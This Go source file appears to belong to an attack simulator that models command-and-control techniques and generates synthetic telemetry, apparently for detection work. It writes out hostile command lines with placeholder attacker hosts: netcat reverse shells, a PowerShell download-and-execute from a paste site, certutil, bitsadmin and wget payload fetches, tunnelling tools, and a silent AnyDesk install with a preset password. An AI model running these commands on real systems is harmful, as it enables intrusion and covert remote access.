package technique

import (
	"time"

	"hemostat/sim"
	"hemostat/sim/world"
)

var commandAndControl = []*Technique{
	{
		ID: "T1105", Name: "Ingress Tool Transfer", Tactic: "command-and-control", Platforms: []string{"windows", "linux"},
		Needs: "a foothold with a way out", Effect: "tools lie on the host",
		Telemetry: []string{"windows/sysmon 1 3 11 22", "linux/auditd", "zeek", "proxy"}, Tools: []string{"certutil", "bitsadmin", "powershell"}, Takes: sim.LogNormal(time.Minute, 0.8), Success: 0.97,
		ready: needFoothold, run: fetchTools,
	},
	{
		ID: "T1071.001", Name: "Application Layer Protocol: Web Protocols", Tactic: "command-and-control", Platforms: []string{"windows", "linux"},
		Needs: "an implant", Effect: "the implant calls home at intervals",
		Telemetry: []string{"zeek/conn", "zeek/ssl", "windows/sysmon 3"}, Tools: []string{"60 s", "300 s with jitter"}, Takes: sim.LogNormal(time.Minute, 0.5), Success: 0.99,
		ready: needFoothold, run: callHome,
	},
	{
		ID: "T1071.004", Name: "Application Layer Protocol: DNS", Tactic: "command-and-control", Platforms: []string{"windows", "linux"},
		Needs: "a foothold", Effect: "orders and answers travel in DNS questions",
		Telemetry: []string{"windows/sysmon 22", "zeek/dns"}, Tools: []string{"dnscat", "long TXT", "few A"}, Takes: sim.LogNormal(time.Minute, 0.5), Success: 0.98,
		ready: needFoothold, run: func(a *Attempt) Progress { return tunnelDNS(a, 40, false) },
	},
	{
		ID: "T1090.001", Name: "Proxy: Internal Proxy", Tactic: "command-and-control", Effect: "traffic is relayed inside the estate",
		Takes: sim.LogNormal(2*time.Minute, 0.7), Success: 0.96,
		script: &script{at: onElevated, variants: []variant{
			by("netsh portproxy", cmd(world.Netsh, `netsh interface portproxy add v4tov4 listenport=3389 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.30.0.20`)),
			by("chisel", cmd(world.Dropped(`C:\Users\Public\chisel.exe`, &plain), `chisel.exe client https://{c2}:443 R:127.0.0.1:3389:10.30.0.20:3389 -socks5`), connect("", 443, "ssl", 9e3, 9e3)),
			by("named pipe relay", pipe(`\MSSE-1407-server`)),
		}},
	},
	{
		ID: "T1090.003", Name: "Proxy: Multi-hop Proxy", Tactic: "command-and-control", Effect: "the way out leads over Tor",
		Takes: sim.LogNormal(2*time.Minute, 0.7), Success: 0.95,
		script: &script{at: onWindows, variants: []variant{
			by("tor", cmd(world.Dropped(`C:\Users\Public\tor\tor.exe`, &plain), `C:\Users\Public\tor\tor.exe --defaults-torrc torrc`), query("kl3f7vq2xsd6sadf.onion", ""), connect("", 443, "ssl", 9e3, 60e3)),
			by("tor2web", query("kl3f7vq2xsd6sadf.onion.to", "198.51.100.9"), connect("kl3f7vq2xsd6sadf.onion.to", 443, "ssl", 3e3, 20e3)),
		}},
	},
	{
		ID: "T1095", Name: "Non-Application Layer Protocol", Tactic: "command-and-control", Effect: "orders travel over raw connections",
		Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.95,
		script: &script{at: anywhere, variants: []variant{
			by("netcat", either(cmd(world.Dropped(`C:\Users\Public\nc.exe`, &plain), `nc.exe {c2ip} 443 -e cmd.exe`), sh(world.Netcat, `nc -e /bin/sh {c2ip} 443`)), connect("", 443, "", 5e3, 9e3)),
			by("raw socket", connect("", 443, "", 5e3, 9e3)),
		}},
	},
	{
		ID: "T1102", Name: "Web Service", Tactic: "command-and-control", Effect: "orders are read from a public service",
		Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.98,
		script: &script{at: onWindows, variants: []variant{
			by("paste site", powershell(`IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/7HjK2bQ4')`), query("pastebin.com", "198.51.100.77"), connect("pastebin.com", 443, "ssl", 1e3, 5e3)),
			by("chat service", query("api.telegram.org", "198.51.100.77"), connect("api.telegram.org", 443, "ssl", 2e3, 5e3)),
		}},
	},
	{
		ID: "T1219", Name: "Remote Access Tools", Tactic: "command-and-control", Effect: "a product for remote help lets the attacker in",
		Takes: sim.LogNormal(4*time.Minute, 0.8), Success: 0.93,
		script: &script{at: onWindows, variants: []variant{
			by("screenconnect", cmd(world.Signed(`C:\Users\Public\ScreenConnect.ClientService.exe`, "ConnectWise, LLC"), `"C:\Users\Public\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h={c2}&p=443&s=a1b2&k=BgIAAACkAABSU0Ex&c=corp"`), query("instance-a1b2.screenconnect.com", "198.51.100.77"), connect("", 443, "ssl", 30e3, 90e3)),
			by("anydesk silent", cmd(anyDesk, `C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent`), cmd(world.Cmd, `cmd.exe /c echo P4ssw0rd | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password`), query("boot.net.anydesk.com", "198.51.100.77"), connect("boot.net.anydesk.com", 443, "ssl", 30e3, 90e3)),
		}},
	},
	{
		ID: "T1572", Name: "Protocol Tunneling", Tactic: "command-and-control", Effect: "a tunnel leads from outside into the estate",
		Takes: sim.LogNormal(3*time.Minute, 0.8), Success: 0.94,
		script: &script{at: anywhere, variants: []variant{
			by("ngrok", either(cmd(world.Dropped(`C:\Users\Public\ngrok.exe`, &plain), `ngrok.exe tcp 3389`), sh(world.UnixProgram("/tmp/ngrok"), `/tmp/ngrok tcp 22`)), query("tunnel.us.ngrok.com", "198.51.100.77"), connect("tunnel.us.ngrok.com", 443, "ssl", 20e3, 40e3)),
			by("chisel", either(cmd(world.Dropped(`C:\Users\Public\svc.exe`, &plain), `svc.exe client https://{c2} R:socks`), sh(world.UnixProgram("/tmp/.c"), `/tmp/.c client https://{c2} R:socks`)), connect("", 443, "ssl", 20e3, 40e3)),
			by("plink", either(cmd(plinkTool, `plink.exe -ssh -R 127.0.0.1:3389:127.0.0.1:3389 -pw x tunnel@{c2ip}`), sh(world.SSH, `ssh -R 2222:localhost:22 tunnel@{c2ip}`)), connect("", 443, "ssh", 30e3, 60e3)),
		}},
	},
	{
		ID: "T1573.002", Name: "Encrypted Channel: Asymmetric Cryptography", Tactic: "command-and-control", Platforms: []string{"windows", "linux"},
		Needs: "an implant", Effect: "the implant calls home over its own TLS at irregular intervals",
		Telemetry: []string{"zeek/conn", "zeek/ssl", "windows/sysmon 3"}, Tools: []string{"self-signed, 30 s", "jittered, 10 min"}, Takes: sim.LogNormal(time.Minute, 0.5), Success: 0.99,
		ready: needFoothold, run: callHome,
	},
	{
		ID: "T1568.002", Name: "Dynamic Resolution: Domain Generation Algorithms", Tactic: "command-and-control", Platforms: []string{"windows", "linux"},
		Needs: "a foothold", Effect: "the implant finds a new server behind generated names",
		Telemetry: []string{"windows/sysmon 22", "zeek/dns"}, Tools: []string{"300 names", "a dozen names"}, Takes: sim.LogNormal(time.Minute, 0.5), Success: 0.97,
		ready: needFoothold, run: generateNames,
	},
}

var (
	anyDesk   = world.Signed(`C:\ProgramData\AnyDesk.exe`, "AnyDesk Software GmbH")
	plinkTool = named(world.Dropped(`C:\Users\Public\plink.exe`, &plain), "Plink", "Command-line SSH, Telnet, and Rlogin client", "Simon Tatham")
)

// named gives a dropped program the version information of a known tool.
func named(b *world.Binary, original, description, company string) *world.Binary {
	b.OriginalName, b.Description, b.Company, b.Product = original, description, company, original
	return b
}

const base32Digits = "abcdefghijklmnopqrstuvwxyz234567"

// label is a random name part of n letters and digits.
func (a *Attempt) label(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = base32Digits[a.Rand.IntN(32)]
	}
	return string(b)
}

// tunnelDNS asks one question a round below the attacker's domain; what is sent
// leaves in the names (about 100 bytes each), answers come as TXT.
func tunnelDNS(a *Attempt, questions int, sending bool) Progress {
	f := a.Current()
	if f == nil {
		return failure("%s", errNoFoothold)
	}
	if r := a.Usable(f); !r.OK() {
		return blocked(r)
	}
	if r := a.World.Reach(world.At(f.Host), a.C2(), 53); r.ByDefence() {
		return blocked(r)
	}
	domain := a.C2().Domain
	// Tunnels carry some tens of kilobytes a second upstream (iodine and dnscat2 in
	// public measurements); short names carry less.
	rate := 40e3
	name, kind, gap := a.label(40)+"."+a.label(38)+"==."+domain, "TXT", 400*time.Millisecond
	switch a.Tool {
	case "dnscat":
		name, kind = "dnscat."+a.label(50)+"."+domain, "CNAME"
	case "few A":
		name, kind, gap = a.label(18)+"."+domain, "A", 20*time.Second
		questions = max(8, questions/4)
		rate = 12e3
	}
	if sending && gap < 5*time.Second {
		gap = 5 * time.Second
	}
	a.World.Resolve(a.Now, a.Actor, f.Host, a.processOn(f), name, kind, a.C2().Address)
	if sending {
		const shown = 12 // of the thousands of questions that a round stands for
		for i := range shown {
			a.World.Resolve(a.Now+time.Duration(i+1)*gap/shown, a.Actor, f.Host, a.processOn(f), a.label(40)+"."+name, kind, a.C2().Address)
		}
		piece := min(a.Staged, uint64(rate*1.3*gap.Seconds()))
		a.Staged -= piece
		a.Exfiltrated += piece
		if a.Staged == 0 {
			return success("%.2f GB have left in DNS questions below %s", float64(a.Exfiltrated)/1e9, domain)
		}
	} else if a.Round >= questions {
		return success("%d questions below %s from %s", a.Round+1, domain, f.Host.Name)
	}
	return again(time.Duration(float64(gap) * (0.3 + a.Rand.Exp()) * a.Slowdown))
}

func generateNames(a *Attempt) Progress {
	f := a.Current()
	if f == nil {
		return failure("%s", errNoFoothold)
	}
	names, gap := 120, time.Second
	if a.Tool == "a dozen names" {
		names, gap = 12, 40*time.Second
	}
	answer := ""
	if a.Round >= names {
		answer = a.C2().Address
	}
	a.World.Resolve(a.Now, a.Actor, f.Host, a.processOn(f), a.label(11+a.Rand.IntN(8))+".example", "A", answer)
	if a.Round >= names {
		a.Domain = (a.Domain + 1) % max(1, len(a.Domains))
		return success("the implant on %s has found %s", f.Host.Name, a.C2().Domain)
	}
	return again(time.Duration(float64(gap) * (0.3 + a.Rand.Exp())))
}

func fetchTools(a *Attempt) Progress {
	f := a.Current()
	if f == nil {
		return failure("%s", errNoFoothold)
	}
	to := a.C2()
	a.World.Resolve(a.Now, a.Actor, f.Host, nil, to.Domain, "A", to.Address)
	if r := a.World.Reach(world.At(f.Host), to, 443); !r.OK() {
		return blocked(r)
	}
	url := "https://" + to.Domain + "/tools/agent.bin"
	var p *world.Process
	switch {
	case !f.Host.Windows():
		p = a.start(f, world.Wget, "wget -q "+url+" -O /tmp/.agent")
		a.start(f, world.Chmod, "chmod 777 /tmp/.agent")
	case a.Tool == "certutil":
		p = a.start(f, world.Certutil, "certutil.exe -urlcache -split -f "+url+` C:\Users\Public\agent.exe`)
		a.createFile(a.Now+3*time.Second, p, `C:\Users\Public\agent.exe`)
	case a.Tool == "bitsadmin":
		p = a.start(f, world.Bitsadmin, "bitsadmin.exe /transfer job /download /priority high "+url+` C:\Users\Public\agent.exe`)
		a.createFile(a.Now+9*time.Second, p, `C:\Users\Public\agent.exe`)
	default:
		p = a.start(f, world.PowerShell, `powershell.exe -c "Invoke-WebRequest `+url+` -OutFile C:\Users\Public\agent.exe"`)
		a.createFile(a.Now+3*time.Second, p, `C:\Users\Public\agent.exe`)
	}
	a.World.Flow(a.Now+time.Second, a.Actor, world.Flow{From: world.At(f.Host), To: to, Port: 443, Service: "ssl", Process: p, Sent: 2e3, Received: 3e6, Duration: 4 * time.Second})
	a.World.TLS(a.Now+time.Second, a.Actor, world.At(f.Host), to, 443, to.Domain, a.Hello, a.Issuer(to), "CN="+to.Domain, a.PublicCertificate)
	return success("tools fetched to %s", f.Host.Name)
}

// callHome is the implant's beacon for a while: intervals with jitter that only
// shortens them (Fox-IT 2020).
func callHome(a *Attempt) Progress {
	f := a.Current()
	if f == nil {
		return failure("%s", errNoFoothold)
	}
	to := a.C2()
	if r := a.World.Reach(world.At(f.Host), to, 443); !r.OK() {
		return blocked(r)
	}
	if a.Round == 0 {
		a.Count = 10 + a.Rand.IntN(20)
		a.World.Resolve(a.Now, a.Actor, f.Host, nil, to.Domain, "A", to.Address)
	}
	var p *world.Process
	if f.Implant != nil {
		p = f.Implant.Process
	}
	sent := 600 + uint64(a.Rand.IntN(80))
	if a.Rhythm != nil {
		sent = a.Rhythm.Size(sent, &a.Rand)
	}
	if a.Tool == "60 s" { // an old implant that asks in clear text through the proxy
		a.World.ProxyRequest(a.Now, a.Actor, world.Request{From: world.At(f.Host), To: to, Port: 80, Method: "POST", Host: to.Domain, URI: "/admin/get.php", Agent: "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", Status: "200", Sent: 600, Received: 900})
	}
	a.World.Flow(a.Now, a.Actor, world.Flow{From: world.At(f.Host), To: to, Port: 443, Service: "ssl", Process: p, Sent: sent, Received: 900 + uint64(a.Rand.IntN(200)), Duration: time.Second})
	a.World.TLS(a.Now, a.Actor, world.At(f.Host), to, 443, to.Domain, a.Hello, a.Issuer(to), "CN="+to.Domain, a.PublicCertificate)
	if a.Round >= a.Count {
		return success("%d calls home from %s", a.Round+1, f.Host.Name)
	}
	interval, jitter := time.Minute, 0.0
	switch a.Tool {
	case "300 s with jitter":
		interval, jitter = 5*time.Minute, 0.4
	case "self-signed, 30 s":
		interval, jitter = 30*time.Second, 0.1
	case "jittered, 10 min":
		interval, jitter = 10*time.Minute, 0.5
	}
	if a.Rhythm != nil {
		return again(a.Rhythm.Interval(interval, &a.Rand))
	}
	return again(time.Duration(float64(interval) * (1 - jitter*a.Rand.Float64())))
}
